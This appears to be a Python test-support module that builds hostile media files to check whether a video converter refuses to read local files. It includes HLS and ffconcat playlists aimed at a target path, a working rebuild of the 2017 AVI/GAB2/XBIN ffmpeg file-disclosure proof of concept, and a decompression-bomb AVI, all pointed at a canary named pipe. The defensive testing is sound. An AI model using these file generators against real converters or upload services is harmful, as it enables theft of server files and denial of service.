"""A hostile corpus made by the tests themselves: files that try to make ffmpeg read a local file.

Each builder returns the bytes a careless converter would follow to another file: HLS
playlists (plain, nested master/child, through the `subfile` protocol), an ffconcat script,
and the AVI of the 2017 proof of concept (HackerOne #242831, the class of neex's
`ffmpeg-avi-m3u-xbin`): a GAB2 subtitle packet carrying an HLS playlist that "decrypts" an
XBIN header out of /dev/zero and then pulls byte ranges of the target file, which the XBIN
decoder would draw as text into the video.

The target they point at is a `Tripwire`: a named pipe standing in for a secret file, which
records whether anything ever opened it to read. A refusal is then proved, not assumed.
"""

from __future__ import annotations

import errno
import os
import secrets
import struct
import threading
from pathlib import Path
from types import TracebackType

# What AES-128 decryption of a zero block under a zero key gives: with /dev/zero as both key
# and ciphertext, the PoC sets each IV to (wanted bytes XOR this) to conjure any 16 bytes.
_AES_ZERO_BLOCK = bytes.fromhex("140f0f1011b5223d79587717ffd9ec3a")
# An XBIN header: 32x15 characters of a 16-line font, compressed (as in the PoC).
_XBIN_HEADER = b"XBIN\x1a\x20\x00\x0f\x00\x10\x04\x01\x00\x00\x00\x00"


def secret_text() -> str:
    """A text no output could contain by chance."""
    return f"vidq-canary-{secrets.token_hex(16)}"


class Tripwire:
    """A named pipe that notes every attempt to open it for reading, and feeds it a secret.

    Opening a FIFO to read blocks until a writer comes. A thread keeps trying to open it to
    write without blocking (ENXIO while no reader waits); when a reader is there, it sets
    `opened` and writes the secret, so an unguarded reader really gets the text.
    """

    def __init__(self, path: Path, secret: str) -> None:
        os.mkfifo(path, 0o600)
        self.path = path
        self.secret = secret
        self.opened = threading.Event()
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._watch, name="tripwire", daemon=True)

    def __enter__(self) -> Tripwire:
        self._thread.start()
        return self

    def __exit__(
        self,
        exc_type: type[BaseException] | None,
        exc: BaseException | None,
        traceback: TracebackType | None,
    ) -> None:
        self._stop.set()
        self._thread.join()

    def _watch(self) -> None:
        while not self._stop.wait(0.005):
            try:
                fd = os.open(self.path, os.O_WRONLY | os.O_NONBLOCK)
            except OSError as exc:
                if exc.errno == errno.ENXIO:  # no reader: nobody is trying to read it
                    continue
                raise
            self.opened.set()
            try:
                os.write(fd, self.secret.encode())
            except OSError:  # the reader went away already
                pass
            finally:
                os.close(fd)


def hls_playlist(*segments: str) -> bytes:
    """A media playlist whose segments are these URLs or paths."""
    lines = ["#EXTM3U", "#EXT-X-VERSION:3", "#EXT-X-TARGETDURATION:10", "#EXT-X-MEDIA-SEQUENCE:0"]
    for segment in segments:
        lines += ["#EXTINF:10.0,", segment]
    return ("\n".join([*lines, "#EXT-X-ENDLIST"]) + "\n").encode()


def hls_master_playlist(child: str) -> bytes:
    """A master playlist naming one variant: the child playlist at `child`."""
    return f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=100000\n{child}\n".encode()


def subfile_playlist(target: Path) -> bytes:
    """A playlist reaching the target through the `subfile` protocol (whole file: end 0)."""
    return hls_playlist(f"subfile,,start,0,end,0,,:{target}")


def concat_script(target: Path) -> bytes:
    """An ffconcat script naming the target."""
    return f"ffconcat version 1.0\nfile '{target}'\nduration 10\n".encode()


def _echo(block: bytes) -> str:
    """Playlist lines that make the HLS demuxer emit exactly these 16 bytes (the PoC's trick)."""
    iv = bytes(a ^ b for a, b in zip(block, _AES_ZERO_BLOCK, strict=True)).hex()
    return (
        f"#EXT-X-KEY:METHOD=AES-128,URI=file:///dev/zero,IV=0x{iv}\n"
        "#EXTINF:1,\n#EXT-X-BYTERANGE:16\nfile:///dev/zero\n#EXT-X-KEY:METHOD=NONE\n"
    )


def xbin_playlist(target: Path, read_bytes: int = 256, chunk_bytes: int = 64) -> bytes:
    """The PoC's playlist: an XBIN header, then the target's bytes as XBIN character data."""
    parts = ["#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n", _echo(_XBIN_HEADER)]
    for offset in range(0, read_bytes, chunk_bytes):
        # A compressed-run header announcing `chunk_bytes` raw characters, then the target.
        packet_header = bytes(9) + b"\x01" + bytes(4) + bytes([128 + chunk_bytes - 1]) + b"\n"
        parts.append(_echo(packet_header))
        parts.append(f"#EXTINF:1,\n#EXT-X-BYTERANGE:{chunk_bytes}@{offset}\nfile://{target}\n")
    parts.append(f"# {secrets.token_hex(8)}\n#EXT-X-ENDLIST\n")
    return "".join(parts).encode()


def _chunk(fourcc: bytes, data: bytes) -> bytes:
    return fourcc + struct.pack("<I", len(data)) + data + (b"\0" if len(data) % 2 else b"")


def _list(kind: bytes, *chunks: bytes) -> bytes:
    return _chunk(b"LIST", kind + b"".join(chunks))


def _stream_header(kind: bytes, frames: int, buffer_bytes: int, width: int, height: int) -> bytes:
    # AVISTREAMHEADER: type, handler, flags, priority, language, initial frames, scale, rate
    # (25 fps), start, length, buffer size, quality (-1: default), sample size, frame rect.
    fields = struct.pack(
        "<4s4sIHHIIIIIIIIhhhh",
        kind,
        b"\0\0\0\0",
        0,
        0,
        0,
        0,
        1,
        25,
        0,
        frames,
        buffer_bytes,
        0xFFFFFFFF,
        0,
        0,
        0,
        width,
        height,
    )
    return _chunk(b"strh", fields)


def _bitmap_header(width: int, height: int) -> bytes:
    # BITMAPINFOHEADER of uncompressed 24-bit frames (bottom-up BGR rows).
    return _chunk(
        b"strf",
        struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, width * height * 3, 0, 0, 0, 0),
    )


def avi_with_playlist(
    playlist: bytes, *, video_frames: int = 0, size: tuple[int, int] = (16, 16)
) -> bytes:
    """An AVI whose subtitle stream is a GAB2 packet holding `playlist`, as the PoC builds it.

    Without `video_frames` it is the PoC itself: one `txts` stream, the GAB2 packet, then
    padding packets for the demuxer to read on. With them, a real (raw BGR) video stream
    comes first, so the file is also a playable video with the playlist riding along.
    """
    width, height = size
    frame_bytes = width * height * 3
    # GAB2 subtitle packet: "GAB2\0", version 2, an empty (UTF-16) name, a flags word, the
    # payload's size, then the payload, which ffmpeg probes and opens as its own input.
    gab2 = b"GAB2\0" + struct.pack("<HIHI", 2, 0, 4, len(playlist)) + playlist
    streams = []
    packets = []
    if video_frames:
        streams.append(
            _list(
                b"strl",
                _stream_header(b"vids", video_frames, frame_bytes, width, height),
                _bitmap_header(width, height),
            )
        )
    subtitle_index = len(streams)
    streams.append(
        _list(b"strl", _stream_header(b"txts", 1, len(gab2), 0, 0), _bitmap_header(width, height))
    )
    packets.append(_chunk(b"%02dtx" % subtitle_index, gab2))
    for n in range(video_frames):
        shade = bytes([(40 * n) % 256, 128, 255 - (40 * n) % 256])
        packets.append(_chunk(b"00dc", shade * (width * height)))
    if not video_frames:
        packets += [_chunk(b"00dc", b"\0\0\0")] * 500  # the PoC's padding packets
    main_header = _chunk(
        b"avih",
        # AVIMAINHEADER: usec per frame, max bytes/s, padding, flags, frames, initial
        # frames, streams, buffer size, width, height, 16 reserved bytes.
        struct.pack(
            "<IIIIIIIIII16x",
            40000,
            0,
            0,
            0,
            max(video_frames, 1),
            0,
            len(streams),
            frame_bytes,
            width,
            height,
        ),
    )
    body = b"AVI " + _list(b"hdrl", main_header, *streams) + _list(b"movi", *packets)
    return b"RIFF" + struct.pack("<I", len(body)) + body


def raw_avi(width: int, height: int, frames: int = 1) -> bytes:
    """An AVI of raw 24-bit frames claiming this size; each frame only 3 bytes long (a bomb)."""
    header = _list(
        b"strl", _stream_header(b"vids", frames, 3, width, height), _bitmap_header(width, height)
    )
    main_header = _chunk(
        b"avih", struct.pack("<IIIIIIIIII16x", 40000, 0, 0, 0, frames, 0, 1, 3, width, height)
    )
    packets = [_chunk(b"00dc", b"\0\0\0")] * frames
    body = b"AVI " + _list(b"hdrl", main_header, header) + _list(b"movi", *packets)
    return b"RIFF" + struct.pack("<I", len(body)) + body
